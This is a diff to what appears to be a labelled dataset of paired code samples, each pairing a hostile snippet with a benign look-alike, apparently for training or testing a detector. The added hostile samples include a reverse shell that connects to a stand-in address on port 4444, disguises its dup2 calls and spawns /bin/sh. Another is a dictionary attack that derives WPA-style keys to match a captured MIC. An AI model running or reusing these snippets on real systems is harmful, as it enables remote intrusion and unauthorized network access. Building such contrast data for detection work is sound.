@@ -208,6 +208,22 @@ PAIRS = [
      "    def do_POST(self):\n        event = json.loads(self.rfile.read(int(self.headers['Content-Length'])))\n"
      "        with open('events.log', 'a') as log:\n            log.write(event.get('type', '?') + '\\n')\n"
      "        self.send_response(204)\n        self.end_headers()\nHTTPServer(('0.0.0.0', 9000), Hook).serve_forever()"),
+    ("shell: dup2 reached through a parameter's default, on a connected socket; the same helper on a log file",
+     "remote_desktop_ssh",
+     "import os, pty, socket\ndef attach(k, f=os.dup2):\n    for fd in range(3):\n        f(k.fileno(), fd)\n    return k\n"
+     "k = socket.socket()\nk.connect(('203.0.113.5', 4444))\nattach(k)\npty.spawn('/bin/sh')",
+     "import os, subprocess\ndef attach(k, f=os.dup2):\n    f(k.fileno(), 1)\n    return k\n"
+     "log = open('train.log', 'w')\nattach(log)\nsubprocess.call(['bash', 'train.sh'])"),
+    ("password: a helper that derives a key from each word, compared with a captured value; the same helper "
+     "compared with a key derived from the program's own password", "password_cracking",
+     "import hashlib, hmac\nSALT = b'HomeNet'\nMIC = bytes.fromhex('d5a1c3e09b7f4a2e11c0ffee12345678')\n"
+     "def derive(pw):\n    pmk = hashlib.pbkdf2_hmac('sha1', pw.encode(), SALT, 4096, 32)\n"
+     "    return hmac.new(pmk, b'frame', 'sha1').digest()[:16]\n"
+     "for word in open('/content/words.txt'):\n    if derive(word.strip()) == MIC:\n        print('key', word)",
+     "import hashlib, hmac\nSALT = b'HomeNet'\ndef derive(pw):\n"
+     "    pmk = hashlib.pbkdf2_hmac('sha1', pw.encode(), SALT, 4096, 32)\n"
+     "    return hmac.new(pmk, b'frame', 'sha1').digest()[:16]\nmine = derive('correct horse')\n"
+     "for n in range(3):\n    assert derive('correct horse') == mine  # the derivation is stable"),
     ("shell: a session function given the accepted socket runs a shell on it; one that echoes what it reads",
      "remote_desktop_ssh",
      "import socket, os, pty\ndef session(conn):\n    for fd in (0, 1, 2):\n        os.dup2(conn.fileno(), fd)\n"
